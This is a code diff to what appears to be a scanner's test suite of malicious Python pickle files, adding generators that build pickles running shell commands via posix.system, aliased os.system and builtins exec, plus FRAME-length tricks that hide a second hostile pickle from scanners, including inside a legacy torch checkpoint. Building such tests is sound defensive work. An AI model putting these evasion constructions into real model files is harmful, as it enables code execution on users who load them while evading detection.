@@ -166,6 +166,20 @@ def pickle_load_all(path: Path) -> object:
     return out
 
 
+def pickle_load_all_bytesio(path: Path) -> object:
+    """``pickle.load`` until EOF on ``io.BytesIO`` (no ``peek``: frames are read exactly)."""
+    out = []
+    f = io.BytesIO(path.read_bytes())
+    while f.tell() < len(f.getbuffer()):
+        out.append(pickle.load(f))
+    return out
+
+
+def pickle_load_bytesio(path: Path) -> object:
+    """One ``pickle.load`` from ``io.BytesIO``, as torch.load reads a zip record."""
+    return pickle.load(io.BytesIO(path.read_bytes()))
+
+
 def pickle_load_with_dir_on_path(path: Path) -> object:
     """``pickle.load`` by a victim whose ``sys.path`` holds the shared folder (script dir, cwd)."""
     sys.path.insert(0, str(path.parent))
@@ -899,6 +913,60 @@ def frame_lie(canary: Canary, _d: Path) -> bytes:
     # after the frame's end still run. A scanner trusting frame lengths would misparse.
     body = bytes(call(g("posix", "system"), _sh(canary)))
     return b"\x80\x04\x95" + struct.pack("<Q", len(body) + 1) + body + b"."
+
+
+def _frame(length: int) -> bytes:
+    return b"\x95" + struct.pack("<Q", length)
+
+
+def frame_past_stop(canary: Canary, _d: Path) -> bytes:
+    # A FRAME after PROTO that reaches past the first STOP and over the whole second pickle.
+    # A buffered file peeks the frame: after STOP it stands right after STOP and the next
+    # pickle.load runs the second pickle. A reader that took the frame whole (BytesIO,
+    # pickle._Unpickler) stands at the frame's end, past it: a scanner following only that
+    # reader never sees the payload (trainwarden did, before 2026-12).
+    benign = b"K\x01."
+    evil = p4(call(g("posix", "system"), _sh(canary)))
+    return b"\x80\x04" + _frame(len(benign) + len(evil)) + benign + evil
+
+
+def frame_zero_then_past_stop(canary: Canary, _d: Path) -> bytes:
+    # A zero-length FRAME (a no-op for every reader) in front of the frame that hides the
+    # second pickle.
+    benign = b"K\x01."
+    evil = p4(call(g("posix", "system"), _sh(canary)))
+    return b"\x80\x04" + _frame(0) + _frame(len(benign) + len(evil)) + benign + evil
+
+
+def frame_into_second_pickle(canary: Canary, _d: Path) -> bytes:
+    # The frame ends inside the second pickle: the frame-end reader starts parsing in the
+    # middle of an argument (garbage it rejects), the peeking reader runs the payload.
+    benign = b"K\x01."
+    evil = p4(call(g("posix", "system"), _sh(canary)))
+    return b"\x80\x04" + _frame(len(benign) + 7) + benign + evil
+
+
+def frame_split_mixed_reads(canary: Canary, _d: Path) -> bytes:
+    # Two frames split two arguments. Bytes data is read with _Unpickler_ReadInto, which
+    # reads on past a frame's end (linear); a string with _Unpickler_Read, which drops the
+    # rest of an exactly-read frame and reads after it (jump). Only a reading that mixes
+    # both, as io.BytesIO gets, imports posix.system: one global choice of reading misses it.
+    a_body = b"C\x04ab"  # SHORT_BINBYTES of 4, two of its bytes in the frame
+    b_body = b"\x8c\x05XY"  # SHORT_BINUNICODE of 5: "posix" must come from after the frame
+    tail = b"posix" + g("posix", "system")[7:] + enc((_sh(canary),)) + b"R."
+    return b"\x80\x04" + _frame(len(a_body)) + a_body + b"cd0" + _frame(len(b_body)) + b_body + tail
+
+
+def frame_legacy_torch(canary: Canary, _d: Path) -> bytes:
+    # In front of a legacy torch checkpoint: the magic-number pickle gets PROTO 4 and a FRAME
+    # that reaches over a hidden pickle. torch's legacy loader peeks the frame from its
+    # buffered file, so its second pickle.load (the protocol version) runs the payload;
+    # the frame's end is where the real protocol-version pickle starts.
+    parts = _legacy_parts()
+    magic_body = parts[0][2:]  # LONG1 magic, STOP (after its PROTO 2)
+    hidden = p2(call(text_global("posix", "system"), _sh(canary)))
+    parts[0] = b"\x80\x04" + _frame(len(magic_body) + len(hidden)) + magic_body + hidden
+    return b"".join(parts)
 
 
 def proto0_builtin_eval(canary: Canary, _d: Path) -> bytes:
@@ -2085,6 +2153,94 @@ ATTACKS: tuple[Attack, ...] = (
         "A benign pickle followed by a malicious one, read by a load-until-EOF loop.",
         _pkl(second_pickle),
         natural_load=pickle_load_all,
+    ),
+    # Issue 8: dotted and aliased names resolve to their target (find_class walks attributes).
+    _a(
+        "dotted-pathlib-os-system",
+        "STACK_GLOBAL('pathlib', 'os.system'): a module re-exported by another",
+        T,
+        "pathlib imports os; find_class walks pathlib.os.system to os.system.",
+        _pkl(simple("pathlib", "os.system", sh)),
+    ),
+    _a(
+        "alias-random-os-system",
+        "STACK_GLOBAL('random', '_os.system'): a module re-exported under an alias",
+        T,
+        "random imports os as _os; no catalogued module is named in the pickle.",
+        _pkl(simple("random", "_os.system", sh)),
+    ),
+    _a(
+        "alias-enum-builtins-exec",
+        "STACK_GLOBAL('enum', 'bltns.exec')",
+        T,
+        "enum imports builtins as bltns: exec reached through an allowlist-looking module.",
+        _pkl(simple("enum", "bltns.exec", py)),
+    ),
+    _a(
+        "logging-filehandler-write",
+        "logging.FileHandler creates a file at load",
+        PS + "GHSA-m273-6v24-x4m4",
+        "Constructing a FileHandler opens (creates) the file it is given: here the canary.",
+        _pkl(simple("logging", "FileHandler", canary_path)),
+    ),
+    _a(
+        "scanner-own-code-write",
+        "a scanner's own helpers as gadgets (trainwarden._fs.atomic_write)",
+        T,
+        "The scanner's installed code writes a file of the pickle's choosing.",
+        _pkl(lambda c, d: p4(call(g("trainwarden._fs", "atomic_write"), str(c.path), "x"))),
+    ),
+    _a(
+        "torch-collect-env-run",
+        "torch.utils.collect_env.run runs a shell command",
+        "https://github.com/protectai/modelscan/issues/338",
+        "Seen in malicious Hugging Face models (2026).",
+        _pkl(simple("torch.utils.collect_env", "run", sh)),
+        requires=TORCH,
+    ),
+    _a(
+        "frame-past-stop",
+        "FRAME reaching past STOP hides the next pickle from frame-end readers",
+        T,
+        "PROTO 4, a FRAME over a benign pickle and the payload pickle; the second pickle.load "
+        "on a real file runs it.",
+        _pkl(frame_past_stop),
+        natural_load=pickle_load_all,
+    ),
+    _a(
+        "frame-zero-then-past-stop",
+        "zero-length FRAME, then a FRAME reaching past STOP",
+        T,
+        "A no-op empty frame in front of the frame that hides the second pickle.",
+        _pkl(frame_zero_then_past_stop),
+        natural_load=pickle_load_all,
+    ),
+    _a(
+        "frame-into-second-pickle",
+        "FRAME ends inside the second pickle",
+        T,
+        "Frame-end readers parse from the middle of an argument; peeking readers run it.",
+        _pkl(frame_into_second_pickle),
+        natural_load=pickle_load_all,
+    ),
+    _a(
+        "frame-split-mixed-reads",
+        "frames split a bytes argument and a string argument",
+        T,
+        "ReadInto reads on past the first frame, Read jumps past the second: only the mixed "
+        "reading of io.BytesIO imports posix.system.",
+        _pkl(frame_split_mixed_reads),
+        natural_load=pickle_load_bytesio,
+    ),
+    _a(
+        "frame-legacy-torch",
+        "FRAME in front of a legacy torch checkpoint hides a pickle",
+        T,
+        "torch.load's legacy path peeks the magic-number pickle's frame; its next load runs "
+        "the hidden pickle.",
+        _file("model.pt", frame_legacy_torch),
+        torch_load_unsafe,
+        TORCH,
     ),
     _a(
         "proto-switch-midstream",
